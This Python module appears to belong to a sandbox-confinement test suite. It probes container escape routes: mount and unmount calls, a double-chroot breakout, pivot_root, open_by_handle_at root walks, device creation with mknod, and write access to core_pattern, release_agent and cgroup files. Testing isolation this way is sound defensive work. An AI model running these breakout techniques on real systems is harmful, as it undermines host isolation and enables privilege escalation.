"""Attacks on mounts, roots, handles, devices and the kernel's own files."""

import ctypes
import os
import stat
import struct
import subprocess

from base import LIBC, attack, call, main

CWD = -100
MS_RDONLY, MS_REMOUNT, MS_BIND, MS_REC = 1, 32, 4096, 16384
OPEN_TREE_CLONE, FSCONFIG_CMD_CREATE, MOVE_FROM_FD = 1, 6, 4
DETACH = 2


def folder(name):
    path = f"/tmp/attack-{os.getpid()}-{name}"
    os.makedirs(path, exist_ok=True)
    return path


def text(value):
    return ctypes.create_string_buffer(value.encode())


def mount(source, target, kind, flags, data=""):
    return call("mount", text(source), text(target), text(kind), flags, text(data))


def fresh_tree():
    context = call("fsopen", text("tmpfs"), 0)
    call("fsconfig", context, FSCONFIG_CMD_CREATE, None, None, 0)
    return call("fsmount", context, 0, 0)


@attack("E08")
def mount_calls():
    attributes = ctypes.create_string_buffer(struct.pack("QQQQ", 0, 1, 0, 0))
    return [
        ("mount tmpfs", lambda: mount("none", folder("a"), "tmpfs", 0)),
        ("mount proc", lambda: mount("proc", folder("b"), "proc", 0)),
        ("fsopen", lambda: call("fsopen", text("tmpfs"), 0)),
        ("open_tree", lambda: call("open_tree", CWD, text("/"), OPEN_TREE_CLONE | 0x8000)),
        ("move_mount", lambda: call("move_mount", tree_or_file(), text(""), CWD,
                                    text(folder("c")), MOVE_FROM_FD)),
        ("mount_setattr", lambda: call("mount_setattr", CWD, text("/proc/sys"), 0, attributes, 32)),
        ("remount /proc/sys", lambda: mount("none", "/proc/sys", "", MS_REMOUNT | MS_BIND)),
    ]


def tree_or_file():
    """A new mount where one can be made: the move itself is what is tried where it cannot."""
    try:
        return fresh_tree()
    except OSError:
        return os.open("/", os.O_RDONLY)


@attack("E09")
def unmasking():
    return [
        ("umount /proc/interrupts", lambda: call("umount2", text("/proc/interrupts"), DETACH)),
        ("umount /proc/sys", lambda: call("umount2", text("/proc/sys"), DETACH)),
        ("bind /", lambda: mount("/", folder("d"), "", MS_BIND | MS_REC)),
        ("bind /proc", lambda: mount("/proc", folder("e"), "", MS_BIND)),
    ]


@attack("E10")
def walk_up(canary):
    def by_chroot():
        os.chroot(folder("jail"))
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        return "escaped" if os.path.exists(canary) else "contained"

    def by_pivot():
        inner = folder("pivot")
        # Both must be mounts; where none can be made, the call itself is still tried.
        try:
            mount("none", inner, "tmpfs", 0)
        except OSError:
            pass
        call("pivot_root", text(inner), text(inner))
        return "escaped"

    return [("double chroot", by_chroot), ("pivot_root", by_pivot)]


@attack("E11")
def handles(memory):
    """On a file system in memory, which has handles, and from the roots that a walk begins at."""

    def make():
        handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
        number = ctypes.c_int()
        call("name_to_handle_at", CWD, text(memory), handle, ctypes.byref(number), 0)
        return handle

    def walk(path):
        # A handle of 8 bytes, type 1: the inode that is the root of most file systems.
        root = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, 2, 0))
        call("open_by_handle_at", os.open(path, os.O_RDONLY), root, 0)

    def round_trip():
        call("open_by_handle_at", os.open(memory, os.O_RDONLY), make(), 0)

    rows = [("name_to_handle_at", lambda: make()), ("round trip", round_trip)]
    return rows + [(f"walk {path}", lambda path=path: walk(path)) for path in ("/", "/tmp")]


DEVICES = [("b", 8, 0), ("b", 252, 0), ("b", 259, 0), ("c", 1, 1), ("c", 10, 200)]


@attack("E12")
def devices(*ready):
    def make(kind, major, minor):
        mode = stat.S_IFBLK if kind == "b" else stat.S_IFCHR
        os.mknod(f"{folder('dev')}/{kind}{major}-{minor}", 0o666 | mode, os.makedev(major, minor))

    made = [(f"mknod {kind} {major}:{minor}", lambda row=(kind, major, minor): make(*row))
            for kind, major, minor in DEVICES]
    return made + [(f"open {path}", lambda path=path: os.open(path, os.O_RDONLY))
                   for path in ready]


@attack("E13")
def kernel_files():
    # Opened for writing and closed again: that they open at all is the hole.
    paths = ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger",
             "/sys/kernel/uevent_helper", "/sys/kernel/mm/ksm/run", "/proc/sys/vm/drop_caches",
             "/proc/irq/default_smp_affinity", "/sys/power/state"]
    rows = [(path, lambda path=path: os.close(os.open(path, os.O_WRONLY))) for path in paths]

    def release_agents():
        found = subprocess.run(["find", "/sys", "/proc/1/root/sys", "-name", "release_agent",
                                "-writable"], capture_output=True, text=True, check=False).stdout
        for path in found.split():
            os.close(os.open(path, os.O_WRONLY))
            return "ok"
        return "none"

    return rows + [("release_agent", release_agents)]


@attack("E14")
def hierarchies(controller="freezer"):
    def join_parent():
        for base, _, names in os.walk("/sys/fs/cgroup"):
            if "cgroup.procs" in names:
                os.close(os.open(f"{base}/cgroup.procs", os.O_WRONLY))
                return "ok"
        return "none"

    return [
        ("mount version 1", lambda: mount("none", folder("v1"), "cgroup", 0, controller)),
        ("mount version 2", lambda: mount("none", folder("v2"), "cgroup2", 0)),
        ("parent cgroup.procs", join_parent),
    ]


if __name__ == "__main__":
    LIBC.prctl(4, 1)
    main()
